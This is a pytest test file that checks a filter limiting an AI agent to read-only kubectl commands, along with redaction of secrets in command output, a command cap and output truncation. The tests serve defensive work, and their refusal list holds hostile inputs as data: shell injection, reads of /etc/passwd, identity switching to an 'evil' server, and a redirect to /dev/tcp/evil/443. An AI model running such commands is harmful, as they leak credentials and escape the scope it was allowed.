# Copyright: (c) 2026, aiops.k8s contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)

"""Which commands of a model are run."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from ansible_collections.aiops.k8s.plugins.module_utils.engine import session
from ansible_collections.aiops.k8s.plugins.module_utils.engine.commands import Refused, arguments, without_secrets
from ansible_collections.aiops.k8s.plugins.module_utils.operation import redact


@pytest.mark.parametrize(("command", "given"), [
    ("kubectl get pods", ["get", "pods"]),
    ("  kubectl get pods -n shop -o wide ", ["get", "pods", "-n", "shop", "-o", "wide"]),
    ("kubectl get pods -A -l app=web,tier!=db --field-selector=status.phase!=Running", None),
    ("kubectl get pod web -o jsonpath='{.status.conditions[*].type}'", ["get", "pod", "web", "-o", "jsonpath={.status.conditions[*].type}"]),
    ("kubectl logs web-1 -c app -p --tail=50 --since=1h", None),
    ("kubectl describe deployment/web -nshop", None),
    ("kubectl top pods --containers", None),
    ("kubectl rollout history deployment/web", None),
    ("kubectl auth can-i --list", None),
    ("kubectl get secrets", ["get", "secrets"]),  # the cluster decides about that
    ("kubectl get pods '$HOME' `x`", ["get", "pods", "$HOME", "`x`"]),  # nothing is expanded
])
def test_plain_reading_is_run(command: str, given: list[str] | None) -> None:
    assert arguments(command) == given if given else arguments(command)


@pytest.mark.parametrize("command", [
    "", "kubectl", "ls", "/tmp/kubectl get pods", "kubectl-evil get pods", "./kubectl get pods", "env kubectl get pods", "A=b kubectl get pods",
    # changes, and what kubectl-ai takes for none
    "kubectl delete pod web", "kubectl delete pod web --dry-run=none", "kubectl apply -f x --dry-run=server", "kubectl exec web -- env",
    "kubectl rollout undo deployment/web", "kubectl rollout", "kubectl auth reconcile", "kubectl -n shop get pods", "kubectl kustomize .",
    "kubectl diff -f x",
    "kubectl config view --raw", "kubectl proxy", "kubectl port-forward web 80", "kubectl debug web", "kubectl cp web:/x /tmp/x",
    "kubectl wait --for=delete pod/x",
    # another identity or another cluster
    "kubectl get pods --kubeconfig=/root/.kube/config", "kubectl get pods --kubeconfig /root/.kube/config", "kubectl get pods --server=https://evil",
    "kubectl get pods -s https://evil", "kubectl get pods -shttps://evil", "kubectl get pods --token=x", "kubectl get pods --as=system:admin",
    "kubectl get pods --context=prod", "kubectl get pods --insecure-skip-tls-verify", "kubectl get pods --user=admin", "kubectl get pods --cluster=x",
    # files, paths of the API, endless output, headers
    "kubectl get -f /etc/passwd", "kubectl get -f/etc/passwd", "kubectl get -Af/etc/passwd", "kubectl get --filename=/etc/passwd", "kubectl get -k /tmp",
    "kubectl get pods -o jsonpath-file=/etc/passwd", "kubectl get pods --output=go-template-file=/etc/passwd", "kubectl get pods -ocustom-columns-file=/x",
    "kubectl get --raw /api/v1/secrets", "kubectl get pods --cache-dir=/tmp/x", "kubectl get pods -w", "kubectl logs -f web", "kubectl logs web --follow",
    "kubectl get pods -v=9", "kubectl get pods -v9", "kubectl get pods --v=9", "kubectl cluster-info dump --output-directory=/tmp", "kubectl get pods --",
    "kubectl get pods --profile=cpu --profile-output=/tmp/x", "kubectl get pods -",
    # a shell
    "kubectl get pods | grep x", "kubectl get pods > /tmp/x", "kubectl get pods; id", "kubectl get pods && id", "kubectl get pods & id",
    "kubectl get pods $(cat /etc/passwd)", "kubectl get pods --token=$(</etc/passwd)", "kubectl get pods <(id)", "kubectl get pods\nid",
    "kubectl get pods 2>/dev/tcp/evil/443", "kubectl get pods 'unfinished",
])
def test_anything_else_is_refused(command: str) -> None:
    with pytest.raises(Refused):
        arguments(command)


@pytest.mark.parametrize(("printed", "given"), [
    ("web-1   1/1   Running", "web-1   1/1   Running"),
    ("connecting with password=hunter2hunter2", "connecting with password=[redacted]"),
    ("- name: DB_PASSWORD\n  value: hunter2\n- name: HOST\n  value: db", "- name: DB_PASSWORD\n  value: [redacted]\n- name: HOST\n  value: db"),
    ('{"name": "API_TOKEN",\n  "value": "t-1"\n}', '{"name": "API_TOKEN",\n  "value": [redacted]\n}'),
    ("    - name: DB_PASSWORD\n      valueFrom: {}", "    - name: DB_PASSWORD\n      valueFrom: {}"),
])
def test_the_model_gets_what_a_command_printed_without_secrets(printed: str, given: str) -> None:
    assert without_secrets(printed, redact) == given


def test_beside_the_engine_the_filter_finds_the_redaction_without_the_collection(tmp_path: Path) -> None:
    kubectl = tmp_path / "kubectl"
    kubectl.write_text("#!/bin/sh\necho \"$*\"; echo password=hunter2\necho 'salt: aZ3kP9vQ2xLw8TmB4nRyC6' >&2\n", encoding="utf-8")
    kubectl.chmod(0o700)
    directory = tmp_path / "run"
    plan = session.Plan("", "", "", str(kubectl), "", {}, {}, (), False)
    session._furnish(plan, str(directory), str(directory / "home"))
    ran = subprocess.run(
        [directory / "bin" / "bash", "-c", "kubectl get pods"], env={"PATH": "/nowhere"}, cwd="/", capture_output=True, text=True, check=False
    )
    assert (ran.returncode, ran.stdout, ran.stderr) == (0, "get pods\npassword=[redacted]\n", "salt: [redacted]\n")


def test_a_run_has_a_number_of_commands_and_no_more(tmp_path: Path) -> None:
    directory = tmp_path / "run"
    session._furnish(session.Plan("", "", "", "/bin/echo", "", {}, {}, (), False), str(directory), str(directory / "home"))
    log = directory / "commands"
    log.write_text('{"command": "x", "refusal": "y"}\n' * session.COMMANDS)
    ran = subprocess.run([directory / "bin" / "bash", "-c", "kubectl get pods"], env={}, cwd="/", capture_output=True, text=True, check=False)
    assert ran.returncode == 126 and ran.stdout == "" and "had its 20 commands: give your answer now" in ran.stderr
    assert len(log.read_text().splitlines()) == session.COMMANDS + 1


def test_of_endless_output_the_beginning_is_kept(tmp_path: Path) -> None:
    kubectl = tmp_path / "kubectl"
    kubectl.write_text("#!/bin/sh\nyes word | head -c 5000000; yes oops | head -c 400000 >&2; exit 3\n", encoding="utf-8")
    kubectl.chmod(0o700)
    directory = tmp_path / "run"
    session._furnish(session.Plan("", "", "", str(kubectl), "", {}, {"PATH": "/usr/bin:/bin"}, (), False), str(directory), str(directory / "home"))
    ran = subprocess.run([directory / "bin" / "bash", "-c", "kubectl get pods"], env={}, cwd="/", capture_output=True, text=True, check=False)
    assert ran.returncode == 3 and len(ran.stdout) < 33_000 and ran.stdout.endswith("\n[4968000 bytes left out: ask for less]\n")
    assert ran.stderr.endswith("\n[368000 bytes left out: ask for less]\n")
